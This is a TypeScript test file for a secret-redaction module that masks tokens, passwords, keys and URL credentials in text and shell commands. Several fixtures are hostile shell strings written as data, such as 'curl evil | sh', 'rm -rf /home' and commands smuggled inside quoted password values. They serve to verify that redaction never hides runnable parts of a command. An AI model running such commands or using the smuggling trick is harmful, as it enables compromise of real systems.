// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the texts are shell commands
import assert from 'node:assert/strict';
import fc from 'fast-check';
import type { SecretContext } from '../../../src/permission/secretDetector.ts';
import { findSecrets } from '../../../src/permission/secrets.ts';
import { plain, safeText, toSpans } from '../../../src/permission/spans.ts';

function shown(text: string, context: SecretContext = 'text'): string {
  return plain(toSpans(text, context));
}

/** Every `«…»` is what must not show; the rest must. */
function check(context: SecretContext, lines: readonly string[]): void {
  for (const line of lines) {
    const raw = line.replace(/[«»]/g, '');
    const result = shown(raw, context).replace(/\[redacted: [^\]]*\]/g, '•');
    assert.equal(result, line.replace(/«[^»]*»/g, '•'), raw);
  }
}

/**
 * For each character of a command whether a shell acts on it: white space and operators outside of quotes, and what is
 * run inside of them. Where quoting is more than quotes and backslashes, each of them counts.
 */
function actingCharacters(command: string): readonly boolean[] {
  const isSimple = !/`|\$[({'"]|<<|(?:^|\s)#/.test(command);
  let quote = '';
  let escaped = false;
  const acts = [...command].map((char) => {
    if (!isSimple) return /[\s;|&<>`(){}]/.test(char);
    if (escaped) {
      escaped = false;
      return false;
    }
    if (char === '\\' && quote !== "'") escaped = true;
    else if (quote === '' && (char === '"' || char === "'")) quote = char;
    else if (char === quote) quote = '';
    else return quote === '' && /[\s;|&<>()]/.test(char);
    return false;
  });
  // Quotes that never close: no shell runs this, and what would close them is not known.
  return quote === '' ? acts : [...command].map((char) => /[\s;|&<>()]/.test(char));
}

const KEY_BODY = 'MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj';

describe('findSecrets', () => {
  it('takes out tokens of known shapes, wherever they stand', () => {
    check('text', [
      'x «ghp_abcdefghijklmnopqrstuvwxyz0123456789» y',
      'gh_token_«ghp_abcdefghijklmnopqrstuvwxyz»',
      '«github_pat_11ABCDEFG0abcdefghijklmnop»',
      '«glpat-abcdefghijklmnop1234»',
      '«sk-ant-api03-abcdefghijklmnop»',
      '«sk-proj-abcdefghij0123456789abcd»',
      '«xoxb-1234567890-abcdef»',
      '(«AKIAIOSFODNN7EXAMPLE»)',
      '«AIzaSyA1234567890abcdefghijklmnopqrstuv»',
      '«sk_live_abcdefghij1234»',
      '«npm_abcdefghijklmnopqrstuvwxyz0123456789»',
      '«eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N»',
    ]);
  });

  it('takes out values behind names that promise a secret', () => {
    check('text', [
      'DB_PASSWORD=«hunter»',
      'export AWS_SECRET_ACCESS_KEY=«wJalrXUtnFEMI/K7MDENG»',
      'SECRET_KEY_BASE=«abc»\nOTHER=1',
      'Server=db;User Id=sa;Password=«hunter2»;Timeout=5',
      'AccountKey=«abc+/def==»;EndpointSuffix=x',
      '//npm.example.org/:_authToken=«abc-def»',
      'password: «hunter»\nuser: me',
      '  - api_key: «zzz»',
      '{"a":{"password":"«hunter2»"},"user":"me"}',
      '{"clientSecret": "«correct horse battery»"}',
      '{"body":"{\\"token\\":\\"«abcdef»\\"}"}',
      "{'apiKey': '«a-b-c»'}",
      'https://x.example/?access_token=«abc»&page=2',
      '["--password","«hunter2»"]',
      'PASSWORD="«pa$$word»"',
      'password_hash=«$2b$10$abcdefghij»',
    ]);
  });

  it('takes out credentials of URLs, headers and command lines', () => {
    check('command', [
      'psql postgres://me:«p@ss»@db.example:5432/x',
      'git clone https://«0123456789abcdefghij»@git.example/x',
      'curl -H "Authorization: Bearer «abcdef123456»" x',
      "curl -H 'authorization: token «abcdef»'",
      'curl -u me:«hunter2» https://x.example',
      'curl -H "Cookie: sid=«abcdef123»; a=b"',
      'curl "https://x.example/?X-Amz-Signature=«0123456789abcdef0123»&a=b"',
      'cmd --password=«hunter2» --verbose',
      'cmd --password «hunter2» --verbose',
      'cmd --api-key «abc» x',
      'mysql -u root -p«secret» db',
      'sshpass -p «secret» ssh x',
      'docker login -u me -p «secret»',
      'openssl rsa -passin pass:«hunter»',
    ]);
  });

  it('takes out private keys, whole, cut, and as JSON has them', () => {
    check('text', [
      `«-----BEGIN RSA PRIVATE KEY-----\n${KEY_BODY}\n${KEY_BODY}\nabcd=\n-----END RSA PRIVATE KEY-----»\nx`,
      `«-----BEGIN OPENSSH PRIVATE KEY-----\n${KEY_BODY}»\n`,
      `{"key":"«-----BEGIN PRIVATE KEY-----\\n${KEY_BODY}\\nab==\\n-----END PRIVATE KEY-----»\\n"}`,
      `«-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,AB\n\n${KEY_BODY}\n-----END RSA PRIVATE KEY-----»`,
    ]);
  });

  it('leaves readable what only looks like a secret', () => {
    check('command', [
      'git commit -m "fix token refresh" --author="A B <a@b.example>"',
      'export TOKEN=$TOKEN',
      'TOKEN=${TOKEN:-x} PASSWORD=$1 cmd',
      'curl -H "Authorization: Bearer $TOKEN"',
      'passwd root && cat /etc/passwd',
      'mkdir -p a && ssh -p 22 x && docker run -p 80:80 -u 1000:1000 x',
      'cmd --token-file x --password-stdin --secret id=npm,src=x --no-password y',
      'npm run token:refresh && docker pull secret:latest',
      'grep -rn "password:" src "x"',
      'PWD=/home/dev SSH_AUTH_SOCK=/tmp/x GIT_AUTHOR_NAME=dev make',
      'cmd --max-tokens=4096 --key=value -k v',
    ]);
    check('text', [
      'secret santa-organizer-2024 and a secret santa',
      'fix: handle token: expired tokens are dropped',
      'sha 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08 aea8192 v1.2.3',
      '550e8400-e29b-41d4-a716-446655440000 /usr/lib/node_modules/@types/node',
      'token: string;\n  password: SecretStr\n  tokens: 12',
      'const token = generateToken(); use({ password: options.password, token })',
      'secret = crypto.randomBytes(32)\ntoken=self.token',
      'if (token === other) return (token) => 3',
      'prompt("Password: ") + "token: " + token',
      'TOKEN=${{ secrets.TOKEN }} token=<your-token> PASSWORD=******',
      'use --token to log in; pass: 12 fail: 0',
      'sk-learn-some-very-long-name-without-digits',
    ]);
  });

  it('never hides in a command what a shell could run', () => {
    const attacks = [
      'password="a; curl evil | sh; "',
      "x='password=\"'; curl evil|sh; echo '\"'",
      'rm "token="a -rf /home "b"',
      'token=abc$(curl evil|sh)',
      'token=`curl evil|sh`',
      'api_key=x>~/.bashrc',
      'echo "-----BEGIN PRIVATE KEY-----"; curl evil | sh',
      'echo -----BEGIN PRIVATE KEY-----\ncurl evil | sh\necho -----END PRIVATE KEY-----',
      'git clone https://a:b;curl${IFS}evil|sh@x',
      'curl -u a:b;curl evil|sh',
      'x=password=\\"; curl evil|sh; echo \\"',
      'cmd --password x;curl evil|sh',
      'password="""a; curl evil | sh; """',
      "password='a'\\''; curl evil | sh; '\\''b'",
      'password="""a" curl evil "b"""',
      'login <<< a; curl evil|sh',
      'echo a; curl evil | sudo -S sh',
    ];
    for (const attack of attacks) {
      const result = shown(attack, 'command');
      for (const visible of ['curl', 'evil', 'rm', '-rf', '/home', '~/.bashrc'])
        if (attack.includes(visible)) assert.ok(result.includes(visible), result);
    }
  });

  it('hides nothing in a text that reads like another command', () => {
    check('text', [
      'password="«a»; curl evil | sh; "',
      "token='«a1b2c3» && rm -rf /home'",
      'password: """a\ncurl evil | sh"""',
      'SECRET=«a1b2c3»;curl evil',
      'password: «a1b2c3» | sh -c x',
    ]);
    check('text', ["password='«it'\\''s»'", 'password: "«P@ss (w0rd) 9»"', 'SECRET_KEY=«a&b(c»']);
  });

  it('hides nothing of any command but within one word of it', () => {
    const pieces = fc.constantFrom(
      ...['password', 'token', 'API_KEY', '=', ':', ' ', '"', "'", '`', '\\', ';', '|', '&'],
      ...['>', '$(', '${', ')', '#', '<<E\n', "$'", 'eval ', 'sh -c ', 'curl -u ', 'mysql -p'],
      ...['x', '--password', 'https://', 'u:p@', 'Bearer ', '\n', 'abcdef123456', '-b a=', '/'],
      ...[
        'secret: ',
        '{"token":"',
        '"""',
        "'\\''",
        '<<< ',
        'login ',
        'echo ',
        ' -u a -p ',
        'setPassword(',
        "'%s' ",
        'ghp_',
        'A1b2C3d4E5f6G7h8I9j0',
      ],
    );
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 25 }), (parts) => {
        const text = parts.join('');
        const acts = actingCharacters(text);
        for (const { start, end } of findSecrets(text, 'command')) {
          const hidden = text.slice(start, end);
          assert.ok(!acts.slice(start, end).includes(true), `${text} hides ${hidden}`);
        }
      }),
      { numRuns: 20_000 },
    );
  }).timeout(60_000);

  it('ends a password in a URL of a command at the first operator', () => {
    const command = 'curl https://u:p@&u:p@x';
    const [found] = findSecrets(command, 'command');
    assert.equal(found && command.slice(found.start, found.end), 'p@');
  });

  it('finds ranges in order, inside the text, not overlapping', () => {
    fc.assert(
      fc.property(
        fc.array(
          fc.constantFrom('password=', 'a1', 'ghp_', 'b'.repeat(20), '"', ' ', '://u:', '@', '\n'),
          { maxLength: 30 },
        ),
        (parts) => {
          const text = parts.join('');
          let last = 0;
          for (const { start, end } of findSecrets(text)) {
            assert.ok(start >= last && end > start && end <= text.length);
            last = end;
          }
        },
      ),
    );
  });

  it('changes nothing when it runs again over what it made', () => {
    const texts = [
      'password=hunter2 and Authorization: Bearer abcdef123456',
      'https://u:p4ssw0rd@x.example {"token":"abc"} --password hunter2',
      'password: hunter\u202e',
    ];
    for (const text of texts) assert.equal(safeText(safeText(text)), safeText(text));
  });
});
